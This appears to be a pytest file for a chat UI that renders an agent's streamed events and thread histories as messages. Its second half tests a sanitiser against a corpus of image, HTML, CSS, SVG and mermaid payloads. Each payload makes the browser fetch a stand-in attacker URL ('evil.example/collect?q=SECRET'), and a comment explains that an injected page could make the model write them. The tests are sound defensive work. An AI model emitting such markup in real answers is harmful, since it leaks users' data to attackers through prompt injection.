"""How the UI renders ``/chat`` events and thread histories as chat messages (pure functions)."""

import json
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from protocols.events import Done, Error, Metadata, Token, ToolCall, ToolResult, Usage
from ui.client import ThreadMessage
from ui.transcript import (
    PREVIEW_CHARS,
    WORD_JOINER,
    AnswerRenderer,
    ChatMessage,
    is_step,
    render_history,
    safe_markdown,
    safe_messages,
    user_turns,
)


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def fenced_blocks(markdown: str) -> list[str]:
    return re.findall(r"(`{3,})[a-z]*\n(.*?)\n\1", markdown, flags=re.S)


def test_delegations_become_steps_that_finish_with_status_preview_and_duration() -> None:
    clock = Clock()
    messages = [{"role": "user", "content": "Plan a trip to Lisbon."}]
    renderer = AnswerRenderer(messages, clock=clock)
    renderer.apply(Metadata(thread_id="t-1", run_id="r", agent="travel"))
    renderer.apply(ToolCall(id="w", name="a2a_weather", args={"message": "Forecast for Lisbon?"}))
    renderer.apply(ToolCall(id="r", name="a2a_research", args={"message": "Sights in Lisbon?"}))

    weather, research = messages[1], messages[2]
    assert weather["metadata"] == {
        "id": "w",
        "title": "Delegated to weather agent (a2a_weather)",
        "status": "pending",
    }
    assert json.loads(fenced_blocks(weather["content"])[0][1]) == {"message": "Forecast for Lisbon?"}
    assert "Result" not in weather["content"]

    clock.now += 2.5
    renderer.apply(ToolResult(id="r", name="a2a_research", status="ok", content="Alfama. " * 200))
    renderer.apply(ToolResult(id="w", name="a2a_weather", status="error", content="weather agent timed out"))

    assert research["metadata"]["title"] == "Delegated to research agent (a2a_research) · ok"
    assert research["metadata"]["status"] == "done" and research["metadata"]["duration"] == 2.5
    preview = fenced_blocks(research["content"])[1][1]
    assert preview.startswith("Alfama.") and preview.endswith("…") and len(preview) <= PREVIEW_CHARS
    assert "**Result (ok)**" in research["content"]
    assert weather["metadata"]["title"].endswith("· error") and weather["metadata"]["status"] == "done"
    assert "weather agent timed out" in weather["content"] and "**Result (error)**" in weather["content"]
    assert renderer.thread_id == "t-1" and len(messages) == 3


def test_tokens_stream_into_one_answer_then_usage_is_appended() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    renderer.apply(Metadata(thread_id="t", run_id="r", agent="weather"))
    seen = []
    for text in ["Sunny ", "all ", "week."]:
        renderer.apply(Token(text=text))
        seen.append(messages[-1]["content"])
    assert seen == ["Sunny ", "Sunny all ", "Sunny all week."]
    assert len(messages) == 1 and not is_step(messages[0])

    renderer.apply(
        Done(thread_id="t", answer="Sunny all week.", usage=Usage(prompt_tokens=90, completion_tokens=7))
    )
    assert messages[0]["content"] == "Sunny all week.\n\n*Tokens: 90 prompt + 7 completion*"
    assert renderer.usage == Usage(prompt_tokens=90, completion_tokens=7) and renderer.finished

    traced: list[ChatMessage] = []
    renderer = AnswerRenderer(traced)
    renderer.apply(Metadata(thread_id="t", run_id="r", agent="weather", trace_id="ab" * 16))
    renderer.apply(Done(thread_id="t", answer="Rain.", usage=Usage(prompt_tokens=3, completion_tokens=1)))
    assert traced[0]["content"] == f"Rain.\n\n*Tokens: 3 prompt + 1 completion · trace {'ab' * 16}*"


def test_text_after_a_step_is_a_new_message_below_it() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    renderer.apply(Token(text="Let me check."))
    renderer.apply(ToolCall(id="1", name="geocode", args={"place": "Lisbon"}))
    renderer.apply(ToolResult(id="1", name="geocode", status="ok", content='{"latitude": 38.7}'))
    renderer.apply(Token(text="Lisbon is at 38.7 N."))
    renderer.apply(Done(thread_id="t", answer="Lisbon is at 38.7 N.", usage=Usage(prompt_tokens=1)))
    assert [m["content"].split("\n")[0] for m in messages] == [
        "Let me check.",
        "**Arguments**",
        "Lisbon is at 38.7 N.",
    ]
    assert messages[1]["metadata"]["title"] == "Tool geocode · ok"
    assert messages[2]["content"].endswith("*Tokens: 1 prompt + 0 completion*")


def test_agent_error_is_shown_and_unfinished_steps_stop_pending() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    renderer.apply(ToolCall(id="a", name="get_forecast", args={"latitude": 1, "longitude": 2}))
    renderer.apply(Error(code="timeout", message="the run took longer than 300 s"))
    renderer.apply(Done(thread_id="t", answer="", usage=Usage()))
    step, error = messages
    assert (
        step["metadata"]["title"] == "Tool get_forecast · no result" and step["metadata"]["status"] == "done"
    )
    assert "Result" not in step["content"]
    assert error == {"role": "assistant", "content": "⚠️ **Error** `timeout`: the run took longer than 300 s"}
    assert renderer.error is not None and renderer.error.code == "timeout"
    assert "Tokens" not in json.dumps(messages)  # nothing was spent: no usage line


def test_stream_without_done_is_finished_by_the_caller() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    renderer.apply(ToolCall(id="a", name="a2a_research", args={}))
    renderer.apply(Error(code="stream_interrupted", message="broke off"))
    assert messages[0]["metadata"]["status"] == "pending" and not renderer.finished
    renderer.finish()
    assert messages[0]["metadata"]["status"] == "done" and messages[0]["metadata"]["title"].endswith(
        "no result"
    )


def test_answer_only_in_done_is_still_shown() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    renderer.apply(
        Done(thread_id="t", answer="Whole answer.", usage=Usage(prompt_tokens=3, completion_tokens=2))
    )
    assert messages == [
        {"role": "assistant", "content": "Whole answer.\n\n*Tokens: 3 prompt + 2 completion*"}
    ]


def test_result_without_its_call_and_backticks_in_results_stay_contained() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    nasty = "```\n# not a heading\n````"
    renderer.apply(ToolResult(id="x", name="fetch_page", status="ok", content=nasty))
    (step,) = messages
    assert step["metadata"]["title"] == "Tool fetch_page · ok"
    assert fenced_blocks(step["content"])[-1][1] == nasty


def test_history_from_the_thread_api_renders_like_the_live_answer() -> None:
    history = [
        ThreadMessage.model_validate(m)
        for m in [
            {"role": "system", "content": "You plan trips."},
            {"role": "user", "content": [{"type": "text", "text": "Trip to Lisbon?"}]},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": "w", "name": "a2a_weather", "args": {"message": "Forecast?"}, "type": "tool_call"},
                    {
                        "id": "r",
                        "type": "function",
                        "function": {"name": "a2a_research", "arguments": '{"q": 1}'},
                    },
                ],
            },
            {"role": "tool", "content": "Sunny", "name": "a2a_weather", "tool_call_id": "w"},
            {
                "role": "tool",
                "content": "boom",
                "name": "a2a_research",
                "tool_call_id": "r",
                "status": "error",
            },
            {"role": "assistant", "content": "Day 1: Alfama."},
            {"role": "user", "content": "And Porto?"},
            {"role": "assistant", "content": "", "tool_calls": [{"id": "g", "name": "geocode", "args": {}}]},
        ]
    ]
    messages = render_history(history)
    assert [m["role"] for m in messages] == [
        "user",
        "assistant",
        "assistant",
        "assistant",
        "user",
        "assistant",
    ]
    titles = [m["metadata"]["title"] for m in messages if is_step(m)]
    assert titles == [
        "Delegated to weather agent (a2a_weather) · ok",
        "Delegated to research agent (a2a_research) · error",
        "Tool geocode · no result",
    ]
    assert json.loads(fenced_blocks(messages[2]["content"])[0][1]) == {"q": 1}
    assert messages[3]["content"] == "Day 1: Alfama."
    assert user_turns(messages) == ["Trip to Lisbon?", "And Porto?"]
    assert all(m["metadata"]["status"] == "done" for m in messages if is_step(m))


# -- nothing in an answer may load anything ------------------------------------------------------------

EXFIL = "http://evil.example/collect?q=SECRET"
# Everything a page could make the model write to have the browser fetch EXFIL as the answer renders.
LOADERS = [
    f"![chart]({EXFIL})",
    f"![]({EXFIL})",
    f'![ref][pic]\n\n[pic]: {EXFIL} "title"',
    f'<img src="{EXFIL}" alt="x">',
    f"<IMG SRC={EXFIL}>",
    f'<picture><source srcset="{EXFIL}"><img src="{EXFIL}"></picture>',
    f'<video src="{EXFIL}" poster="{EXFIL}" autoplay></video>',
    f'<audio src="{EXFIL}" autoplay></audio>',
    f'<iframe src="{EXFIL}"></iframe>',
    f'<link rel="stylesheet" href="{EXFIL}">',
    f'<div style="background-image: url({EXFIL})">styled</div>',
    f"<style>body {{ background: url({EXFIL}) }}</style>",
    f'<svg><image href="{EXFIL}"/></svg>',
    f'<object data="{EXFIL}"></object><embed src="{EXFIL}">',
    f'<input type="image" src="{EXFIL}">',
    f'<table background="{EXFIL}"><tr><td>x</td></tr></table>',
    f"[![badge]({EXFIL})](https://example.org)",
    f"```mermaid\nflowchart LR\n  A@{{ img: '{EXFIL}' }}\n```",
    # Markdown structures where a parser could disagree about what is code.
    f"- item\n  ```\n ```\n```\n<img src={EXFIL}>\n```",
    f"> ```\n<img src={EXFIL}>",
    f"`unclosed <img src={EXFIL}>",
    f"    indented <img src={EXFIL}>",
    f"\n\n    <img src={EXFIL}>\n  text",
    f"$$\n<img src={EXFIL}>\n$$",
    f"<!-- --><img src={EXFIL}>",
]
LOADING_TAGS = {"img", "picture", "source", "video", "audio", "iframe", "link", "style", "svg", "image"}
LOADING_TAGS |= {"object", "embed", "input", "table", "frame", "track", "script", "body", "meta", "base"}


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def rendered_elements(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements a CommonMark renderer with raw HTML on (as Gradio's) makes of ``markdown``."""
    parser = Elements()
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    return parser.found


def assert_loads_nothing(markdown: str) -> None:
    for tag, attrs in rendered_elements(markdown):
        assert tag not in LOADING_TAGS, (tag, markdown)
        assert not {"src", "srcset", "poster", "background", "style", "data"} & set(attrs), (tag, markdown)
    # The context-free rule behind it: no tag opener and no image syntax survive, whatever the context.
    markup = re.sub(r"</?(b|i|em|strong|sub|sup|s|u|kbd)>|<br\s*/?>|<https?://[^\s<>]*>", "", markdown)
    assert not re.search(r"<[A-Za-z/!?]", markup) and "![" not in markdown and "```mermaid" not in markdown


def test_the_loader_corpus_would_load_without_the_rewrite() -> None:
    loading = [text for text in LOADERS if any(t in LOADING_TAGS for t, _ in rendered_elements(text))]
    assert len(loading) >= 15  # the corpus is dangerous as written...


@pytest.mark.parametrize("text", LOADERS, ids=range(len(LOADERS)))
def test_answers_render_with_nothing_that_loads(text: str) -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    for piece in re.findall(r".{1,7}", f"Here you go: {text} done.", flags=re.S):  # split anywhere
        renderer.apply(Token(text=piece))
    renderer.apply(Done(thread_id="t", answer="", usage=Usage()))
    (answer,) = safe_messages(messages)
    assert_loads_nothing(answer["content"])  # ...and inert once rewritten
    assert safe_markdown(answer["content"]) == answer["content"]  # idempotent: stored copies stay equal


def test_images_become_links_and_html_is_shown_as_text() -> None:
    answer = safe_markdown(f'See ![the map]({EXFIL}) or <img src="{EXFIL}">. Keep **bold** and a<b.')
    assert answer == (f'See [image: the map]({EXFIL}) or &lt;img src="{EXFIL}">. Keep **bold** and a&lt;b.')
    links = [attrs["href"] for tag, attrs in rendered_elements(answer) if tag == "a"]
    assert links == [EXFIL]  # a link the user may click, not a request the page makes
    assert [tag for tag, _ in rendered_elements("x <b>y</b><br>z <https://example.org>")] == [
        "p",
        "b",
        "br",
        "a",
    ]


def test_code_reads_the_same_but_cannot_load() -> None:
    code = f'```html\n<img src="{EXFIL}">\n![x]({EXFIL})\n```'
    shown = safe_markdown(f"Example:\n\n{code}\n\nand `<img src=x>` inline.")
    assert_loads_nothing(shown)
    assert shown.replace(WORD_JOINER, "") == f"Example:\n\n{code}\n\nand `<img src=x>` inline."


def test_tool_steps_and_errors_are_made_inert_too() -> None:
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    renderer.apply(ToolCall(id="f", name="fetch_url", args={"url": EXFIL, "note": "<img src=x>"}))
    renderer.apply(
        ToolResult(id="f", name="fetch_url", status="ok", content=f"<img src={EXFIL}> ![p]({EXFIL})")
    )
    renderer.apply(Error(code="llm_error", message=f"bad page ![p]({EXFIL})"))
    step, error = safe_messages(messages)
    assert step["metadata"] == messages[0]["metadata"]
    for message in (step, error):
        assert_loads_nothing(message["content"])
    preview = fenced_blocks(step["content"])[-1][1].replace(WORD_JOINER, "")
    assert preview == f"<img src={EXFIL}> ![p]({EXFIL})"  # the result preview still reads as sent
